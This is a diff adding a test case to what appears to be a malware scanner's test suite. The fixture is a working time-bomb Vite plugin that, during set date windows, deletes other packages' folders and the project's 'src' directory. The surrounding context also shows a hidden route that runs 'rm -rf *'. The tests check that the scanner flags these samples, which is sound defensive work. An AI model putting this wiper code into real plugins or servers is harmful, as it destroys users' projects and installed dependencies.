@@ -1416,6 +1416,25 @@ module.exports = {};
     expect(test.ids).not.toContain('wiper/wipe');
   });
 
+  it("other installed packages' folders and the project's sources deleted from a list, inside date windows, are a time bomb (Vite plugin, 2025); a clean of the tool's own output is not", () => {
+    const plugin = (targets: string) => `const fs = require('fs'); const path = require('path');
+const WINDOWS = [['2026-06-19', '2026-06-30'], ['2026-12-01', '2026-12-31']];
+function armed(now = new Date()) { const day = now.toISOString().slice(0, 10); return WINDOWS.some(([a, b]) => day >= a && day <= b); }
+function purge(root) {
+  const targets = [${targets}];
+  for (const rel of targets) { try { fs.rmSync(path.join(root, rel), { recursive: true, force: true }); } catch (e) {} }
+}
+module.exports = function extender() { let root = process.cwd(); return { name: 'extender', configResolved(config) { root = config.root || root; if (armed()) purge(root); } }; };
+`;
+    const bomb = scan({ 'dist/index.cjs': plugin("'node_modules/vue/dist', 'node_modules/@vue/runtime-core/dist', 'node_modules/react/cjs', 'src'") }, { main: 'dist/index.cjs' });
+    const wipe = bomb.findings.find((f) => f.detector === 'wiper');
+    expect(wipe?.data?.what).toMatch(/other installed packages' folders and the project's sources/);
+    expect(wipe?.evidence?.timeGated).toBe(true);
+    expect(['high', 'critical']).toContain(bomb.level);
+    const clean = scan({ 'dist/index.cjs': plugin("'node_modules/.vite', 'node_modules/.cache/extender', 'dist'") }, { main: 'dist/index.cjs' });
+    expect(clean.ids).not.toContain('wiper/wipe');
+  });
+
   it('a wipe command run from a web request handler is pulled from outside: high (express-api-sync style hidden routes)', () => {
     const server = (handler: string) => `const { exec } = require('child_process');
 function reset(res) { exec(process.platform === 'win32' ? 'rd /s /q .' : 'rm -rf *', () => res.end('ok')); }
